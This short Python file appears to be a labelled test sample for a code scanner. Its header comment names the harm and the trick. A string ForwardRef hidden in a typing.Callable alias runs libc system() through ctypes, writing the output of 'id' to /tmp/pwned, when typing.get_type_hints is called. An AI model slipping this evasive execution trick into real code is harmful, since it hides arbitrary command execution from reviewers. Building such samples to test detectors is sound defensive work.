# harm: loads native code with ctypes and runs libc system() ; trick: ForwardRef hidden in typing.Callable[["..."], None] argument list of an alias
import typing

Handler = typing.Callable[["__import__('ctypes').CDLL(None).system(b'id > /tmp/pwned')"], None]


def register(cb: Handler) -> None:
    pass


try:
    typing.get_type_hints(register)
except Exception:
    pass
